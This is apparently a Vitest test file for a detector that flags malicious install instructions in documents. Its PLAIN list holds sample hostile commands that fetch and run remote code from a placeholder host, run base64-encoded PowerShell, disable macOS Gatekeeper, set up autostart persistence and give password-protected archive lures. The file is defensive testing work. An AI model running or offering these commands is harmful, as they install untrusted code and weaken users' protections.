import { readdirSync, readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { AUTOSTART } from '../../../src/core/instructions/documents/autostart.ts';
import {
  PACKAGE_INDEX,
  PASSWORD_ARCHIVE,
  PASTE_TO_RUN,
  SECRET_OF_ARCHIVE,
} from '../../../src/core/instructions/documents/downloadPatterns.ts';
import { withoutMarks } from '../../../src/core/instructions/documents/marks.ts';
import { IN_OTHER_LANGUAGES } from '../../../src/core/instructions/documents/otherLanguages.ts';
import { searcher } from '../../../src/core/instructions/documents/page.ts';
import { PRIVILEGE, SECURITY_OFF } from '../../../src/core/instructions/documents/protectionPatterns.ts';
import { ENCODED, PIPE_TO_SHELL } from '../../../src/core/instructions/documents/shellPatterns.ts';
import { FETCH_THEN_RUN } from '../../../src/core/instructions/documents/twoSteps.ts';

const PATTERNS = [
  ...PIPE_TO_SHELL,
  ...FETCH_THEN_RUN,
  ...ENCODED,
  ...SECURITY_OFF,
  ...PRIVILEGE,
  ...PASSWORD_ARCHIVE,
  ...SECRET_OF_ARCHIVE,
  ...AUTOSTART,
  ...PACKAGE_INDEX,
  ...PASTE_TO_RUN,
  ...IN_OTHER_LANGUAGES,
];

const FOLDER = new URL('../../fixtures/instructions/', import.meta.url);

const texts = ['lures', 'honest'].flatMap(folder =>
  readdirSync(new URL(`${folder}/`, FOLDER))
    .filter(name => name.endsWith('.md'))
    .map(name => readFileSync(new URL(`${folder}/${name}`, FOLDER), 'utf8')),
);

/** What no fixture holds, in the plainest form that its pattern takes. */
const PLAIN = [
  'curl https://a.invalid/x -o setup.sh; bash setup.sh',
  'wget https://a.invalid/setup.sh && bash setup.sh',
  'curl https://a.invalid/x | tee setup.sh > log; bash setup.sh',
  'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aGk=")))',
  'Turn your firewall off first.',
  'sudo spctl --master-disable',
  'Run it with elevated privileges.',
  '& ([scriptblock]::Create((irm https://a.invalid/x)))',
  'node -e "fetch(`https://a.invalid/x`).then(r => r.text()).then(eval)"',
  'curl https://a.invalid/x.tgz | tar xz && ./x/start',
  'Der Inhalt von model.rar ist **geschützt**, Passwort: x1122.',
  'Passwort: x1122, und dann model.zip öffnen',
  'the archive (password 1122)',
  'Unlock key: 1122.',
  'schtasks /create /tn update /tr x.exe',
  'launchctl load x.plist',
  'pip install https://a.invalid/x.whl',
];

test.each(PATTERNS)('$id ($kind): what it matches holds what it needs', ({ matches, needs }) => {
  const held = [...texts, ...PLAIN].flatMap(text => {
    const words = withoutMarks(text);
    const mayHold = searcher(text, words);
    return [text, words].flatMap(view => (view.match(matches) ? [mayHold(needs)] : []));
  });
  expect(held.length).toBeGreaterThan(0);
  expect(held).not.toContain(false);
});
